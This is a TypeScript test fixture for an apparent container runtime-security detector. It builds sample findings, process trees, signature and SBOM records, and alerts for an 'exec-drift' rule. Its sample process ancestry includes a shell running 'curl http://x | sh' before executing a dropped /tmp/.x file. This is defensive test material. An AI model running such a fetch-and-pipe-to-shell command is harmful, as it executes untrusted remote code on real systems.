import { Finding } from '../../../proto/generated/tallyman/v1/finding.ts';
import { ExecutableLayer, type ProcessExecution } from '../../../proto/generated/tallyman/v1/process.ts';
import { Node } from '../../../proto/generated/tallyman/v1/uplink.ts';
import { unknownPapers } from '../../correlate/unknown-papers.ts';
import type { Alert, CorrelatedFinding } from '../../decide/alert.ts';
import { createAlert } from '../../decide/create-alert.ts';
import { decide } from '../../decide/decide.ts';
import { loadDefaultPolicy } from '../../decide/policy.ts';
import type { Outcome, Ownership, Papers } from '../../records/papers.ts';

type FindingParts = Parameters<typeof Finding.fromPartial>[0];

export const sampleTimeUnixNs = 1_795_000_000_123_456_789n;
export const sampleContainerId = '4f'.repeat(32);

/** init → node → sh → /tmp/.x, acting first; all times in ns before the event. */
export function sampleProcesses(): NonNullable<FindingParts['processes']> {
  const one = (pid: number, agoNs: bigint, path: string, argv: string[], layer: ExecutableLayer) => ({
    executionId: `b00t1d00:${pid}:${pid}000:1`,
    pid,
    containerPid: pid - 1000,
    startUnixNs: sampleTimeUnixNs - agoNs,
    execUnixNs: sampleTimeUnixNs - agoNs + 5n,
    executable: { path, layer, inode: 12n, device: 3 },
    filename: path,
    argv,
    cwd: '/srv',
    credentials: { uid: 33, gid: 33, euid: 33, egid: 33, suid: 33, sgid: 33 },
    observed: true,
    comm: path.slice(path.lastIndexOf('/') + 1),
  });
  return [
    one(1041, 1_000n, '/tmp/.x', ['/tmp/.x', '--quiet'], ExecutableLayer.WRITABLE),
    one(1038, 1_000_000n, '/usr/bin/dash', ['sh', '-c', 'curl http://x | sh'], ExecutableLayer.IMAGE),
    one(1017, 60_000_000_000n, '/usr/bin/node', ['node', 'server.js'], ExecutableLayer.IMAGE),
    one(1001, 61_000_000_000n, '/sbin/tini', ['tini', '--', 'node', 'server.js'], ExecutableLayer.IMAGE),
  ];
}

export function sampleFinding(parts: FindingParts = {}): Finding {
  return Finding.fromPartial({
    findingId: '0195f3a0-0000-7000-8000-000000000001',
    ruleId: 'exec-drift',
    ruleTitle: 'Program written at run time was executed',
    ruleVersion: '1',
    severity: 4,
    summary: '/tmp/.x was written at run time and then executed by node.',
    remediation: 'Stop the container and keep its writable layer.',
    mitre: [{ techniqueId: 'T1105', techniqueName: 'Ingress Tool Transfer', tacticId: 'TA0011', tacticName: 'C2' }],
    event: { kind: 'exec', timeUnixNs: sampleTimeUnixNs, ktimeNs: 99n, evidence: { $case: 'exec', value: {} } },
    processes: sampleProcesses(),
    ancestryComplete: true,
    container: {
      id: sampleContainerId,
      name: 'checkout',
      runtime: 'docker',
      image: {
        reference: 'registry.acme.io:5000/checkout:4.2.1',
        configDigest: `sha256:${'77'.repeat(32)}`,
        repoDigests: [`registry.acme.io:5000/checkout@sha256:${'9f'.repeat(32)}`],
        platform: 'linux/amd64',
      },
      posture: { user: 'www-data' },
      labels: { app: 'checkout' },
      startedUnixNs: sampleTimeUnixNs - 62_000_000_000n,
      namespace: 'payments',
    },
    attribution: 1,
    dataComplete: true,
    fields: { 'process.executable.path': '/tmp/.x' },
    ...parts,
  });
}

export function samplePapers(signature: Outcome, sbom: Outcome = signature, provenance: Outcome = 'absent'): Papers {
  const papers = unknownPapers(undefined, `${signature} in this test`, 1_795_000_000_000);
  const signer = { kind: 'key' as const, name: 'release.pub', keyFingerprint: `sha256:${'ab'.repeat(32)}` };
  return {
    ...papers,
    signature: { ...papers.signature, outcome: signature, signer: signature === 'verified' ? signer : undefined },
    sbom: { ...papers.sbom, outcome: sbom, componentCount: sbom === 'verified' ? 312 : 0 },
    provenance: { ...papers.provenance, outcome: provenance },
    freshForMs: 60_000,
  };
}

export const sampleOwned: Ownership = {
  state: 'owned',
  path: '/usr/bin/dash',
  method: 'exact',
  confidence: 'high',
  owners: [
    {
      purl: 'pkg:deb/debian/dash@0.5.12-2',
      name: 'dash',
      version: '0.5.12-2',
      type: 'deb',
      sourceName: undefined,
      sourceVersion: undefined,
      layerDigest: undefined,
    },
  ],
};

export function sampleCorrelated(
  finding: Finding = sampleFinding(),
  papers: Papers = samplePapers('verified'),
  ownership: Ownership | undefined = { state: 'not-in-image', path: '/tmp/.x', reason: 'written at run time' },
): CorrelatedFinding {
  return {
    finding,
    node: Node.fromPartial({ name: 'node-3', bootId: 'b00t', kernelRelease: '6.18.5', osName: 'Debian 12' }),
    receivedAtUnixMs: 1_795_000_000_200,
    papers,
    ownership,
  };
}

export function sampleAlert(correlated: CorrelatedFinding = sampleCorrelated()): Alert {
  const decision = decide(correlated, loadDefaultPolicy());
  return createAlert({ cluster: 'prod-eu', correlated, decision, createdAtUnixMs: 1_795_000_000_210 });
}

/** Distinct alerts of one container, `count` of them. */
export function sampleAlerts(count: number, firstNumber = 0): Alert[] {
  return Array.from({ length: count }, (_, index) =>
    sampleAlert(sampleCorrelated(sampleFinding({ findingId: `finding-${firstNumber + index}` }))),
  );
}

export function actingExecution(finding: Finding): ProcessExecution {
  const acting = finding.processes[0];
  if (acting === undefined) throw new Error('the sample has no process');
  return acting;
}
